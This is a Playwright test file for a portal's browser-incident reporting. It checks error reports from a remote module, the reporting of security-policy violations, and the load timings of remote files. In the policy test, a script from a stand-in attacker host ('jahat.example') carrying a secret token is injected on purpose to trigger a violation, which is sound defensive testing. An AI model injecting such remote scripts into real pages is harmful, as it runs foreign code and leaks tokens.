import type { Page } from '@playwright/test';
import { metricsToken, servers } from '../../server/servers';
import { publishedRemote } from '../../support/broken-remote';
import { startFaultyPortal } from '../../support/gagal/faulty-page';
import { expect, test } from '../../support/portal';

const PAGE = { path: '/public-display/arsitektur-kinerja?satuan_kerja_id=1012' };

const figures = async () => {
  const headers = { authorization: `Bearer ${metricsToken}` };
  return (await fetch(`${servers.demo.origin}/metrics`, { headers })).text();
};

/** Value of a figure with these labels; 0 before it was ever counted. */
async function figureOf(name: string, labels: Record<string, string>): Promise<number> {
  const wanted = Object.entries(labels).map(([label, value]) => `${label}="${value}"`);
  const line = (await figures())
    .split('\n')
    .find((text) => text.startsWith(`${name}{`) && wanted.every((label) => text.includes(label)));
  return Number(line?.split(' ').at(-1) ?? 0);
}

/** How many files of a remote the page has told its wait for, up to now. */
function timesToldBy(page: Page, { remote, versi }: { remote: string; versi: string }): () => number {
  let told = 0;
  page.on('request', (request) => {
    if (!request.url().endsWith('/api/insiden')) return;
    const { waktu } = request.postDataJSON() as {
      waktu: readonly { remote: string; versi: string; lama: readonly number[] }[];
    };
    for (const one of waktu) if (one.remote === remote && one.versi === versi) told += one.lama.length;
  });
  return () => told;
}

test('what goes wrong in a remote reaches the server under its name and version', async ({ page }) => {
  const { version } = (await publishedRemote(servers.demo.origin)).entry;
  const labels = { jenis: 'remote', remote: 'mf_cascading', versi: version };
  const before = await figureOf('selaras_insiden_peramban_total', labels);
  const portal = await startFaultyPortal('mf_cascading', 'throwing-page');

  const sent = page.waitForRequest('**/api/insiden');
  await page.goto(portal.origin + PAGE.path);
  await expect(page.locator('[data-remote-failure]')).toBeVisible();
  const request = await sent;
  expect(request.headers().authorization).toBeUndefined();
  expect(request.headers().cookie).toBeUndefined();
  expect(request.postData()).toContain('GAGAL_TAMPIL');
  expect(request.postData()).not.toContain('satuan_kerja_id');
  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBe(before + 1);
  await portal.close();
});

test('a violation of the security policy reaches the server', async ({ page }) => {
  const labels = { jenis: 'csp', remote: 'shell', versi: '' };
  const before = await figureOf('selaras_insiden_peramban_total', labels);
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://jahat.example/a.js?token=rahasia';
    document.head.append(script);
  });
  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBe(before + 1);
});

test('how long the files of a remote are waited for reaches the server', async ({ page }) => {
  const { entry } = await publishedRemote(servers.demo.origin);
  const labels = { remote: 'mf_cascading', versi: entry.version };
  const before = await figureOf('selaras_remote_berkas_detik_count', labels);
  const told = timesToldBy(page, labels);
  await page.goto(PAGE.path);
  await expect(page.locator('[data-state=ready]')).toBeVisible();
  await expect.poll(told).toBeGreaterThan(0);
  await expect
    .poll(async () => (await figureOf('selaras_remote_berkas_detik_count', labels)) - told())
    .toBe(before);
});
